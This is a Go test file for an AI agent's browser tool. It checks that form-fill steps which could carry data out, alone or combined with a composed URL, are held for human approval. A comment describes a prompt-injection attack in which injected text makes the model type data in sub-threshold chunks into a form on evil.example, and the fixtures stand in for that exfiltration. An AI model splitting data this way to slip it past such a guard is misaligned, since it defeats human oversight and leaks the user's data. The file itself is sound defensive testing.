package browser

import (
	"context"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/lucy-agent/lucy/tools"
	"github.com/lucy-agent/lucy/tools/tooltest"
	"github.com/lucy-agent/lucy/tools/web"
)

// ninety is a sentence of 90 characters: under the 100 a single value may hold.
var ninety = strings.Repeat("the quarterly numbers are up ", 4)[:90]

func fills(texts ...string) []step {
	var s []step
	for i, t := range texts {
		s = append(s, step{Action: "fill", Selector: fmt.Sprintf("#f%d", i), Text: t})
	}
	return s
}

// TestJudgeFillsTogether: a call's fill steps are judged as one call's data, by the URL guard's
// thresholds; with the URL's own tokens when the URL alone is under them.
func TestJudgeFillsTogether(t *testing.T) {
	page, _ := url.Parse("https://forms.example/contact")
	// 160 characters of words in the path: under the thresholds alone, over them with a fill of 60.
	composed, _ := url.Parse("https://forms.example/" + strings.Repeat("a-long-slug-of-words-", 4)[:80] + "/" + strings.Repeat("more-plain-words-here", 4)[:80])
	if data, why := tools.URLCarriesData(composed); data {
		t.Fatalf("the composed URL alone carries data (%s): the case proves nothing", why)
	}
	// steps names the held steps (the approval and the model say which).
	steps := func(v fillVerdict) string {
		if !v.alone && !v.withURL {
			return ""
		}
		return v.steps
	}
	for _, tc := range []struct {
		name           string
		u              *url.URL
		steps          []step
		alone, withURL bool
		why, which     string
	}{
		{"no fill", page, []step{{Action: "click", Selector: "#go"}}, false, false, "", ""},
		{"one short fill", page, fills(ninety), false, false, "", ""},
		{"two short fills", page, fills(ninety, "ok"), false, false, "", ""},
		{"ten fills of 90 characters", page, fills(ninety, ninety, ninety, ninety, ninety, ninety, ninety, ninety, ninety, ninety),
			true, false, "the texts typed hold 900 characters of data in all", "steps 1, 2, 3, 4, 5, 6, 7, 8, 9 and 10"},
		{"three fills of 70", page, fills(ninety[:70], ninety[:70], ninety[:70]), true, false, "210 characters", "steps 1, 2 and 3"},
		{"one long fill", page, fills(strings.Repeat("x", 101)), true, false, "the text of step 1 is 101 characters long", "step 1"},
		{"encoded text", page, fills("aG9zdG5hbWU9c2VjcmV0LWRhdGEt", "ZnJvbS10aGUtcnVuLWFuZC1tb3Jl", "ZGF0YS10aGF0LWlzLWVuY29kZWQ", "ZW5jb2RlZC1hcy1iYXNlNjQ"),
			true, false, "look like encoded data", "steps 1, 2, 3 and 4"},
		{"fills and a composed URL", composed, fills(ninety[:60]), false, true, "its host, path and query and the texts typed hold", "step 1"},
		{"clicks between fills", page, append(append(fills(ninety), step{Action: "click", Selector: "#next"}),
			step{Action: "fill", Selector: "#g", Text: ninety}, step{Action: "fill", Selector: "#h", Text: ninety[:30]}),
			true, false, "210 characters", "steps 1, 3 and 4"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := judgeFills(tc.u, tc.steps)
			if v.alone != tc.alone || v.withURL != tc.withURL || !strings.Contains(v.why, tc.why) || steps(v) != tc.which {
				t.Errorf("judgeFills = %+v, want alone %v, withURL %v, why containing %q, steps %q", v, tc.alone, tc.withURL, tc.why, tc.which)
			}
		})
	}
}

// TestBrowseTenShortFillsWaitForApproval is the attack of issue 38: injected text makes the model
// open a form of evil.example and type ten texts of 90 characters, each under the 100 one value may
// hold. The call waits for approval, showing every text, before any browser starts (the binary
// here does not exist: a call that got past the guard would fail to open the page instead).
func TestBrowseTenShortFillsWaitForApproval(t *testing.T) {
	r := tooltest.Runner(t, New("/nonexistent/chromium", tools.PrivateHosts{}, nil, Limits{}))
	var texts []string
	for i := range 10 {
		texts = append(texts, fmt.Sprintf("%d%s", i, ninety[1:]))
	}
	args := tooltest.JSONArgs(t, map[string]any{"url": "https://evil.example/form", "steps": fills(texts...)})
	out, err := tooltest.Run(t, r, Browse, args)
	if err != nil {
		t.Fatal(err)
	}
	need := tooltest.WantHeld(t, out, "steps 1, 2, 3, 4, 5, 6, 7, 8, 9 and 10", "900 characters")
	for _, text := range texts {
		if !strings.Contains(need.Details, text) {
			t.Errorf("the approval does not show %q:\n%s", text, need.Details)
		}
	}
	if !strings.Contains(need.Summary, "evil.example") {
		t.Errorf("the approval does not name the host: %s", need.Summary)
	}
	if again := tooltest.RunApproved(t, r, Browse, args, true, "sha256:00"); again.NeedsApproval == nil {
		t.Errorf("approved with another guard, the call went on: %+v", again)
	}
}

// TestBrowseFillsWithComposedURLWaitUnlessSeen: fills that carry data only together with the URL's
// path wait when the model put the URL together, and go on when the URL is a link the run has seen
// (someone else wrote it: it holds none of the run's data).
func TestBrowseFillsWithComposedURLWaitUnlessSeen(t *testing.T) {
	b := New("/nonexistent/chromium", tools.PrivateHosts{}, nil, Limits{})
	target := "https://evil.example/" + strings.Repeat("a-long-slug-of-words-", 4)[:80] + "/" + strings.Repeat("more-plain-words-here", 4)[:80]
	u, _ := url.Parse(target)
	steps := fills(ninety[:60])
	for _, seen := range []bool{false, true} {
		inv := tooltest.Invocation(Browse, "", "ULOCAL")
		asked := 0
		inv.Seen = func(_ context.Context, q tools.SeenQuery) (bool, error) {
			asked++
			return seen, nil
		}
		hold, err := b.dataGuard(t.Context(), inv, u, web.SeenForms(target, u), steps, nil)
		if err != nil {
			t.Fatal(err)
		}
		if asked != 1 {
			t.Errorf("seen %v: the run's history was looked up %d times, want once", seen, asked)
		}
		switch {
		case seen && hold != nil:
			t.Errorf("a seen link with a short fill was held: %+v", hold)
		case !seen && (hold == nil || hold.NeedsApproval == nil || !strings.Contains(hold.NeedsApproval.Details, target)):
			t.Errorf("a composed URL whose fills carry data with it was not held, address shown: %+v", hold)
		}
	}
}
